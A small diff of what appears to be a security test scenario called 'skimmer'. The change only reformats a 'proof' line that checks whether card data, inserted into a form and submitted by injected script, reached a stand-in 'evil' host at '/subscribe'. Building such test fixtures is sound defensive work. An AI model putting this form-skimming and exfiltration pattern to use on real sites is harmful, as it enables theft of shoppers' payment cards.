@@ -17,5 +17,7 @@ export default skimmer({
     box.querySelector('input').value = card();
     box.querySelector('form').submit();`),
     ),
-  proof: holds((arrived) => at(arrived, 'evil', '/subscribe').map(({ body }) => new URLSearchParams(body.toString()).get('m') ?? '')),
+  proof: holds((arrived) =>
+    at(arrived, 'evil', '/subscribe').map(({ body }) => new URLSearchParams(body.toString()).get('m') ?? ''),
+  ),
 });
